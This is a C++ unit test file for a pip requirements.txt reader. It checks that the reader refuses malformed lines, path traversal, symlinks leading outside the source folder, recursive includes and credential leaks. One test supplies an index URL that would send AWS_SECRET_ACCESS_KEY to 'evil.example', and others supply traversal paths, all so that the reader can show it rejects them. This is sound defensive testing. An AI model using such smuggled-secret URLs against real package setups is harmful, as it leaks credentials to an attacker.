#include "liminal/pip/requirements_file.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "liminal/pip/requirement_syntax.hpp"

#include "support/temporary_folder.hpp"
#include "support/test_world.hpp"

namespace liminal::pip {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Not;

class RequirementsFile : public ::testing::Test {
 protected:
  Result<RequirementSet> read(const std::string& text) {
    folder.write("source/requirements.txt", text);
    return read_file("requirements.txt");
  }
  Result<RequirementSet> read_file(const std::string& file) {
    return read_requirements(outside.world(), folder.path() / "source", file);
  }
  // The whole message of the refusal of one line behind a good one.
  std::string refusal(const std::string& line) {
    const auto set = read("numpy==1.0\n" + line + "\n");
    if (set) return "not refused";
    EXPECT_EQ(set.error().kind, ErrorKind::usage);
    return set.error().message + " -> " + set.error().advice;
  }
  static std::vector<std::string> texts(const std::vector<RequirementLine>& lines) {
    std::vector<std::string> list;
    for (const RequirementLine& line : lines) list.push_back(line.text);
    return list;
  }

  testing::TemporaryFolder folder;
  testing::TestWorld outside;
};

TEST_F(RequirementsFile, RefusesWhatIsMalformedWithItsLine) {
  EXPECT_THAT(refusal("foo @"), HasSubstr("there is no address behind the @"));
  EXPECT_THAT(refusal("foo==1 --hash=sha256:"), HasSubstr("a hash is none of"));
  for (const char* line : {"foo==", "foo>=1,<", "foo=1.0", "foo==1 2", "foo(==1", "foo>=", "foo=!1", "foo==latest",
                           "foo==1.0.x", "foo~=1", "foo>=1.*", "foo<1+local", "foo==1+"}) {
    EXPECT_THAT(refusal(line), HasSubstr("requirements.txt:2: ")) << line;
    EXPECT_THAT(refusal(line), HasSubstr("is no requirement")) << line;
  }
  for (const char* line :
       {"-i http://[::bad", "-i https://", "--index-url http://a[b]/", "--find-links http://[::bad/"})
    EXPECT_THAT(refusal(line), HasSubstr("web address")) << line;
  for (const char* line : {"foo===1.0", "foo===any", "foo~=1.4", "foo==1!2.0rc1.post2.dev3+local.1",
                           "foo>=V1.0-ALPHA_1", "foo==2-1", "foo!=1.*", "foo (>=1, <2)", "-i http://[::1]:80/simple",
                           "-i https://${PIP_USER}:${PIP_PASSWORD}@example.org/simple"})
    EXPECT_EQ(refusal(line), "not refused");
}

TEST_F(RequirementsFile, RefusesExtrasAndMarkersThatAreNone) {
  for (const char* line : {"foo[a b]", "foo[a,]", "foo[-a]==1", "foo[a,,b]"})
    EXPECT_THAT(refusal(line), HasSubstr("are no names with commas between")) << line;
  for (const char* line :
       {"foo[]", "foo[a, b-c.d]>=1", "foo ; os_name == 'nt' and (extra == \"x\" or 'a' not in os_name)"})
    EXPECT_EQ(refusal(line), "not refused") << line;
  EXPECT_THAT(refusal("foo; bogus"), HasSubstr("`bogus` is neither a variable of markers nor a text in quotes"));
  EXPECT_THAT(refusal("foo; python_version"), HasSubstr("a comparison is missing"));
  EXPECT_THAT(refusal("foo; python_version > 3"), HasSubstr("`3` is neither"));
  EXPECT_THAT(refusal("foo; (os_name == 'a'"), HasSubstr("a parenthesis is not closed"));
  EXPECT_THAT(refusal("foo; os_name == 'a' os_name"), HasSubstr("`os_name` is not understood there"));
  EXPECT_THAT(refusal("foo; os_name not 'a'"), HasSubstr("`not` is followed by `in`"));
  EXPECT_THAT(refusal("foo; os_name == 'a"), HasSubstr("requirements.txt:2: "));
  EXPECT_THAT(refusal("foo;"), HasSubstr("it ends too early"));
  EXPECT_THAT(refusal("foo; " + std::string(100000, '(')), HasSubstr("nested too deeply"));
}

TEST_F(RequirementsFile, TakesWhatPipTakes) {
  const auto set = read(
      "\xef\xbb\xbf# all kinds\r\n"
      "numpy==2.3.3   # pinned\r\n"
      "  pandas [performance,aws] >=1.0, <3 ; python_version < \"3.13\"\n"
      "typing_extensions(>=4)\n"
      "\n"
      "wheel @ https://example.org/wheel-0.42-py3-none-any.whl#sha256=00 ; os_name == 'posix'\n"
      "https://example.org/a/b-1-py3-none-any.whl\n");
  ASSERT_TRUE(set.has_value()) << set.error().message;
  EXPECT_THAT(texts(set->requirements),
              ElementsAre("numpy==2.3.3", "pandas [performance,aws] >=1.0, <3 ; python_version < \"3.13\"",
                          "typing_extensions(>=4)",
                          "wheel @ https://example.org/wheel-0.42-py3-none-any.whl#sha256=00 ; os_name == 'posix'",
                          "https://example.org/a/b-1-py3-none-any.whl"));
  EXPECT_EQ(set->requirements[0].line, 2U);
  EXPECT_EQ(set->requirements[1].name, "pandas");
  EXPECT_EQ(set->requirements[2].line, 4U);
  EXPECT_EQ(set->requirements[4].name, "");
}

TEST_F(RequirementsFile, JoinsLinesThatABackslashEnds) {
  const auto set = read(
      "six==1.16.0 \\\n    --hash=sha256:00ff \\\n    --hash sha512:aa\n"
      "a==1 \\\n# a comment ends it\nb==2\\");
  ASSERT_TRUE(set.has_value()) << set.error().message;
  EXPECT_THAT(texts(set->requirements), ElementsAre("six==1.16.0 --hash=sha256:00ff --hash=sha512:aa", "a==1", "b==2"));
  EXPECT_EQ(set->requirements[0].line, 1U);
  EXPECT_EQ(set->requirements[2].line, 6U);
}

TEST_F(RequirementsFile, TakesOptionsInEverySpelling) {
  folder.write("source/wheels/.keep", "");
  const auto set = read(
      "-i https://example.org/simple\n--extra-index-url=https://${PIP_USER}:${PIP_TOKEN}@b.example/s\n"
      "--pre\n--no-index\n--require-hashes\n--prefer-binary\n--only-binary :all:\n--no-binary :none:\n-f wheels\n"
      "--find-links 'https://example.org/links.html'\n");
  ASSERT_TRUE(set.has_value()) << set.error().message;
  EXPECT_THAT(texts(set->options),
              ElementsAre("--index-url https://example.org/simple",
                          "--extra-index-url https://${PIP_USER}:${PIP_TOKEN}@b.example/s", "--pre", "--no-index",
                          "--require-hashes", "--prefer-binary", "--find-links https://example.org/links.html"));
  EXPECT_THAT(set->wheel_folders, ElementsAre("wheels"));
}

TEST_F(RequirementsFile, ReadsIncludedFilesWhereTheyStand) {
  folder.write("source/deep/base.txt", "-c ../limits.txt\n-radjacent.txt\nflask\n");
  folder.write("source/deep/adjacent.txt", "jinja2\n");
  folder.write("source/limits.txt", "flask<3\n");
  const auto set = read("-r deep/base.txt\nnumpy\n");
  ASSERT_TRUE(set.has_value()) << set.error().message;
  EXPECT_THAT(texts(set->requirements), ElementsAre("jinja2", "flask", "numpy"));
  EXPECT_THAT(texts(set->constraints), ElementsAre("flask<3"));
  EXPECT_EQ(set->requirements[1].file, "deep/base.txt");
  EXPECT_EQ(set->requirements[1].line, 3U);
}

TEST_F(RequirementsFile, NamesThePlaceOfWhatIsRefused) {
  EXPECT_THAT(refusal("-e ."), HasSubstr("requirements.txt:2: an editable requirement"));
  EXPECT_THAT(refusal("-e ."), HasSubstr("copy the package into the source folder"));
  EXPECT_THAT(refusal("--trusted-host example.org"), HasSubstr("certificate"));
  EXPECT_THAT(refusal("--no-binary :all:"), HasSubstr("--no-binary asks for a build from source"));
  EXPECT_THAT(refusal("--trusted=example.org"), HasSubstr("`--trusted=example.org` is no option"));
  EXPECT_THAT(refusal("-r https://example.org/r.txt"), HasSubstr("may change at any time"));
  EXPECT_THAT(refusal("-r missing.txt"), HasSubstr("requirements.txt:2: there is no file missing.txt"));
  EXPECT_THAT(refusal("-r"), HasSubstr("--requirement needs a value"));
  EXPECT_THAT(refusal("numpy --global-option=--x"), HasSubstr("nothing is built from source"));
  EXPECT_THAT(refusal("numpy --hash=md5:00"), HasSubstr("hash"));
  EXPECT_THAT(refusal("numpy 1.0"), HasSubstr("`numpy 1.0` is no requirement"));
  EXPECT_THAT(refusal("== 3"), HasSubstr("is no requirement"));
}

TEST_F(RequirementsFile, RefusesWhatWouldRunCodeOrDependOnTheMachine) {
  EXPECT_THAT(refusal("git+https://example.org/x.git@v1"), HasSubstr("version control"));
  EXPECT_THAT(refusal("x @ git+ssh://git@example.org/x.git"), HasSubstr("version control"));
  EXPECT_THAT(refusal("--use-feature=fast-deps"), HasSubstr("changes how pip works"));
  EXPECT_THAT(refusal("git@example.org:x.git"), HasSubstr("requirements.txt:2"));
  EXPECT_THAT(refusal("x @ https://example.org/x-1.tar.gz"), HasSubstr("is not a wheel"));
  EXPECT_THAT(refusal("x @ http://example.org/x-1-py3-none-any.whl"), HasSubstr("https"));
  for (const char* path : {"./x", "../x", "/x", "~/x", "x-1-py3-none-any.whl", "x.zip", "pkg/x", "x\\y",
                           "x @ file:///x.whl", "file:x.whl"}) {
    EXPECT_THAT(refusal(path), HasSubstr("is a path")) << path;
  }
}

TEST_F(RequirementsFile, RefusesFilesOutsideTheSource) {
  folder.write("secret.txt", "numpy\n");
  std::filesystem::create_directories(folder.path() / "source");
  std::filesystem::create_symlink(folder.path() / "secret.txt", folder.path() / "source/link.txt");
  EXPECT_THAT(refusal("-r ../secret.txt"), HasSubstr("outside of the source folder"));
  EXPECT_THAT(refusal("-r link.txt"), HasSubstr("outside of the source folder"));
  EXPECT_THAT(refusal("-c " + (folder.path() / "source/requirements.txt").string()), HasSubstr("outside"));
  EXPECT_THAT(refusal("-f /tmp"), HasSubstr("outside of the source folder"));
  EXPECT_THAT(refusal("-f .."), HasSubstr("outside of the source folder"));
  EXPECT_THAT(refusal("-f nowhere"), HasSubstr("there is no folder nowhere"));
}

TEST_F(RequirementsFile, KeepsCredentialsOutOfImagesAndMessages) {
  for (const char* line :
       {"-i https://joe:hunter2@example.org/simple", "--extra-index-url https://hunter2@example.org/",
        "-f https://joe:hunter2@example.org/", "x @ https://joe:hunter2@example.org/x-1-py3-none-any.whl",
        "x @ https://joe:hunter2@example.org/x.tar.gz", "git+https://hunter2@example.org/x",
        "-r https://hunter2@e.org/r", "-i https://${PIP_USER}hunter2@example.org/simple",
        "numpy --x=https://hunter2@example.org/"}) {
    const std::string message = refusal(line);
    EXPECT_THAT(message, HasSubstr("requirements.txt:2: ")) << line;
    EXPECT_THAT(message, Not(HasSubstr("hunter2"))) << line;
  }
}

TEST_F(RequirementsFile, GivesNoVariableToPipThatWasNotMeantForIt) {
  EXPECT_THAT(refusal("-i https://${AWS_SECRET_ACCESS_KEY}@evil.example/"),
              HasSubstr("the variable AWS_SECRET_ACCESS_KEY is not given to pip"));
  EXPECT_THAT(refusal("-i https://evil.example/${PIP_INDEX_URL}"), HasSubstr("PIP_INDEX_URL"));
  EXPECT_THAT(refusal("numpy==${VERSION}"), HasSubstr("VERSION"));
}

TEST_F(RequirementsFile, BoundsWhatItReads) {
  EXPECT_THAT(refusal("-r requirements.txt"), HasSubstr("requirements.txt includes itself"));
  folder.write("source/a.txt", "-r b.txt\n");
  folder.write("source/b.txt", "-c a.txt\n");
  EXPECT_THAT(refusal("-r a.txt"), HasSubstr("b.txt:1: a.txt includes itself"));
  for (int i = 0; i < 40; ++i) {
    folder.write("source/d" + std::to_string(i), "-r d" + std::to_string(i + 1) + "\n");
  }
  EXPECT_THAT(refusal("-r d0"), HasSubstr("too deeply"));
  // Each file includes the next twice: two to the power of twenty in all.
  for (int i = 0; i < 20; ++i) {
    const std::string next = "-r e" + std::to_string(i + 1) + "\n";
    folder.write("source/e" + std::to_string(i), next + next);
  }
  folder.write("source/e20", "numpy\n");
  EXPECT_THAT(refusal("-r e0"), HasSubstr("too many requirements"));
}

TEST_F(RequirementsFile, RefusesOtherEncodings) {
  const auto utf16 =
      read(std::string("\xff\xfe"
                       "n\0u\0",
                       6));
  ASSERT_FALSE(utf16.has_value());
  EXPECT_THAT(utf16.error().message, HasSubstr("requirements.txt:1: the file is not in UTF-8"));
  EXPECT_THAT(refusal("num\xc3\xa9py"), HasSubstr("not plain ASCII"));
  EXPECT_THAT(refusal("numpy\x0b-e ."), HasSubstr("not plain ASCII"));
  // A comment is free to say anything; another decoding does not make a line of it.
  EXPECT_TRUE(read("# -*- coding: utf-7 -*-\n# caf\xc3\xa9 \xe2\x80\xa8-e .\nnumpy\n").has_value());
}

TEST_F(RequirementsFile, AllMistakesAreToldAtOnce) {
  folder.write("source/more.txt", "-e .\n");
  const auto set = read("numpy==1.0\nfoo==\n-r more.txt\n--no-such-option\n-r missing.txt\n");
  ASSERT_FALSE(set.has_value());
  EXPECT_EQ(set.error().message, "the requirements have 4 mistakes");
  EXPECT_THAT(set.error().causes, ElementsAre(HasSubstr("requirements.txt:2: "), HasSubstr("more.txt:1: "),
                                              HasSubstr("requirements.txt:4: "), HasSubstr("requirements.txt:5: ")));
  std::string many;
  for (int i = 0; i < 1000; ++i) many += "foo==\n";
  const auto bounded = read(many);
  ASSERT_FALSE(bounded.has_value());
  EXPECT_EQ(bounded.error().causes.size(), 100U);
}

TEST_F(RequirementsFile, AnEmptyFileIsNoRequirements) {
  const auto set = read("\n# nothing\n  \n");
  ASSERT_TRUE(set.has_value());
  EXPECT_TRUE(set->requirements.empty());
  const auto missing = read_file("other.txt");
  ASSERT_FALSE(missing.has_value());
  EXPECT_EQ(missing.error().message, "there is no file other.txt in the source folder");
}

TEST(Credentials, AreTakenOutOfAddresses) {
  EXPECT_EQ(without_credentials("at https://a:b@c/d and http://e@f, https://g/h"),
            "at https://****@c/d and http://****@f, https://g/h");
  EXPECT_EQ(without_credentials("https://a:b@c@d/"), "https://****@d/");
  EXPECT_EQ(without_credentials("no address"), "no address");
  // What stands behind the @ of a repository is a revision.
  EXPECT_EQ(without_credentials("git+https://e.org/o/x.git@main"), "git+https://e.org/o/x.git@main");
  EXPECT_EQ(without_credentials("git+https://tok/en:x@e.org/x.git"), "git+https://****@e.org/x.git");
  EXPECT_EQ(without_credentials("git+https://a.b/pass@e.org/x.git"), "git+https://****@e.org/x.git");
  EXPECT_EQ(without_credentials("git+https://to.ken/a/b-c@e.org/p/r"), "git+https://****@e.org/p/r");
  EXPECT_EQ(without_credentials("git+https://token@e.org/x.git@main"), "git+https://****@main");
}

}  // namespace
}  // namespace liminal::pip
